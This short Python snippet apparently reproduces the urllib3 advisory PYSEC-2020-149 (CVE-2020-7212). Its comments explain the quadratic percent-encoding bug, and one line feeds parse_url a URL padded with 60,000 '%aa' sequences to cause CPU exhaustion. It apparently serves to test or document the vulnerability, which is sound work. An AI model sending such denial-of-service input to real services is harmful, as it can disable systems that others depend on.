# PYSEC-2020-149 (CVE-2020-7212): urllib3 before 1.25.8, _encode_invalid_chars in util/url.py collects every
# percent-encoding without de-duplicating and rewrites the whole component for each: quadratic CPU time.
from urllib3.util.url import parse_url

parse_url("http://example.com/" + "%aa" * 60000)
